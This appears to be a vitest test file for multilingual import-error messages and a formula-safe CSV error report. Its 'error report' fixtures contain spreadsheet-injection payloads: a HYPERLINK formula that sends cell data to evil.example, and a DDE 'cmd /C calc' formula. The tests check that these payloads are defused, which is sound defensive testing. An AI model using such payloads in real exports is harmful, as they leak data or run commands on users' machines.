/** Problem messages in three languages and the error report CSV (formula-safe, BOM + CRLF). */
import { describe, expect, it } from 'vitest';
import { CSV_FIELDS } from '../../shared/domain/imports';
import { legacyCsvChunks, legacyCsvMapping } from '../demo/legacy-csv';
import { readCsv } from './csv';
import { bytes, collect } from './fixtures/collect';
import { CSV_TEMPLATES, FIELD_LABEL, ID_WHY, PROBLEM_SUMMARY, problemReason, problemsCsv, type MessageLang } from './messages';
import type { ReadProblem } from './model';

const LANGS: MessageLang[] = ['sv', 'nb', 'en'];
const placeholders = (t: string) => [...t.matchAll(/\{(\w+)\}/g)].map((m) => m[1]).sort();

describe('the messages', () => {
  it('give every problem code a summary in Swedish, Norwegian and English, without placeholders', () => {
    for (const [code, text] of Object.entries(PROBLEM_SUMMARY)) {
      for (const l of LANGS) expect(text[l], `${code} ${l}`).toMatch(/^\S.*\S$/);
      expect(text.sv, code).not.toBe(text.en);
      expect(placeholders(text.sv + text.nb + text.en), code).toEqual([]);
    }
  });

  it('give every CSV template the same placeholders in all three languages', () => {
    for (const [code, text] of Object.entries(CSV_TEMPLATES)) {
      expect(placeholders(text.sv), code).toEqual(placeholders(text.en));
      expect(placeholders(text.nb), code).toEqual(placeholders(text.en));
      expect(text.sv, code).not.toBe(text.en);
    }
  });

  it('explain every refusal of shared/identity, and name every CSV field', () => {
    const idErrors = ['empty', 'bad_characters', 'bad_length', 'bad_date', 'bad_checksum', 'bad_individual_number', 'missing_separator', 'h_number_not_allowed', 'synthetic_not_allowed', 'interim_not_allowed', 'future_date', 'ambiguous'];
    for (const k of idErrors) expect(Object.keys(ID_WHY)).toContain(k);
    expect(Object.keys(FIELD_LABEL).sort()).toEqual([...CSV_FIELDS].sort());
  });

  it('render a CSV problem in each language from its arguments, translating the keys among them', () => {
    const p = { code: 'bad_identity_number' as const, reason: 'x', args: { value: '0503041238', why: 'bad_checksum' } };
    expect(problemReason(p, 'sv')).toBe('"0503041238" är inget giltigt personnummer: fel kontrollsiffra');
    expect(problemReason(p, 'nb')).toBe('«0503041238» er ikke et gyldig fødselsnummer: feil kontrollsiffer');
    expect(problemReason(p, 'en')).toBe('"0503041238" is not a valid identity number: wrong check digit');
    const date = { code: 'bad_date' as const, reason: 'x', args: { value: '31.02.2016', format: 'DD.MM.YYYY' } };
    expect(problemReason(date, 'nb')).toBe('«31.02.2016» er ikke en virkelig dato på formen DD.MM.ÅÅÅÅ');
    const missing = { code: 'missing_heading' as const, reason: 'x', args: { headings: '"Fornavn", "Postnr"', fields: 'givenName,postalCode' } };
    expect(problemReason(missing, 'sv')).toBe('Rubrikraden saknar kolumner som mappningen anger: "Fornavn", "Postnr" (Förnamn, Postnummer)');
  });

  it('give an XML reader’s problem (English, no arguments) the summary with the English detail', () => {
    const p = { code: 'missing_element' as const, reason: '<Personpost> lacks <PersonId>' };
    expect(problemReason(p, 'en')).toBe('<Personpost> lacks <PersonId>');
    expect(problemReason(p, 'sv')).toBe('Ett obligatoriskt element saknas (<Personpost> lacks <PersonId>)');
  });

  it('make the CSV reader’s English reason from the same template as the other languages', async () => {
    const o = { country: 'NO' as const, rows: 600, seed: 5, withErrors: true };
    const c = await collect(readCsv(bytes(Buffer.from([...legacyCsvChunks(o)].join(''))), { country: 'NO', mapping: legacyCsvMapping('NO'), today: '2026-12-03', allowSynthetic: true }));
    expect(new Set(c.problems.map((p) => p.code)).size).toBeGreaterThanOrEqual(8);
    for (const p of c.problems) {
      expect(problemReason(p, 'en')).toBe(p.reason);
      for (const l of LANGS) expect(problemReason(p, l)).not.toMatch(/\{\w+\}/);
    }
  });
});

describe('the error report', () => {
  const hostile: ReadProblem[] = [
    {
      line: 7,
      column: 3,
      element: '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
      reason: 'x',
      code: 'too_long',
      severity: 'record',
      recordIndex: 6,
      subject: '+46701234567',
      args: { length: 101, max: 100 },
    },
    { line: 9, column: 1, element: 'Personpost', reason: '@SUM(1+1)*cmd|" /C calc"!A0', code: 'missing_element', severity: 'record', recordIndex: 8, subject: '-1+1' },
  ];

  it('is UTF-8 with a byte-order mark and CRLF, with headings in the chosen language', () => {
    const sv = problemsCsv(hostile, 'sv');
    expect(sv.startsWith('\uFEFFRad,Kolumn,Fält,Orsak,Person\r\n')).toBe(true);
    expect(sv.endsWith('\r\n')).toBe(true);
    expect(sv.split('\r\n')).toHaveLength(4);
    expect(problemsCsv([], 'nb')).toBe('\uFEFFLinje,Kolonne,Felt,Årsak,Person\r\n');
    expect(problemsCsv([], 'en')).toBe('\uFEFFLine,Column,Field,Reason,Subject\r\n');
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    const rows = problemsCsv(hostile, 'en').split('\r\n');
    expect(rows[1]).toBe(`7,3,"'=HYPERLINK(""http://evil.example/?""&A1,""klicka"")",The value is 101 characters long; at most 100 are allowed,'+46701234567`);
    expect(rows[2]).toBe(`9,1,Personpost,"'@SUM(1+1)*cmd|"" /C calc""!A0",'-1+1`);
  });

  it('gives the reasons in each language', () => {
    expect(problemsCsv(hostile, 'sv').split('\r\n')[1]).toContain('Värdet är 101 tecken långt; högst 100 är tillåtna');
    expect(problemsCsv(hostile, 'nb').split('\r\n')[1]).toContain('Verdien er 101 tegn lang; høyst 100 er tillatt');
    expect(problemsCsv(hostile, 'nb').split('\r\n')[2]).toContain('Et obligatorisk element mangler (@SUM');
  });
});
